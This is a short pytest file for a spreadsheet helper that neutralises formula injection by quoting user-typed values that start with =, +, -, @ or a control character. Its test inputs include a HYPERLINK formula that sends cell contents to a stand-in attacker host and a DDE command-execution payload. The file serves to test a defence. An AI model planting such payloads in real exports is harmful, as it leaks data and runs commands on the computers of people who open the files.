"""Cells typed by people never become spreadsheet formulas."""

import pytest

from depicta_web.lib.spreadsheet import cell_text


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("https://evil.example/?d="&B2&C2,"Open invoice")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_formula_start_is_made_text_with_a_quote(typed):
    assert cell_text(typed) == "'" + typed


@pytest.mark.parametrize("typed", ["A red kite", "", "1+1=2", " =not first", "'quoted"])
def test_other_text_is_left_alone(typed):
    assert cell_text(typed) == typed
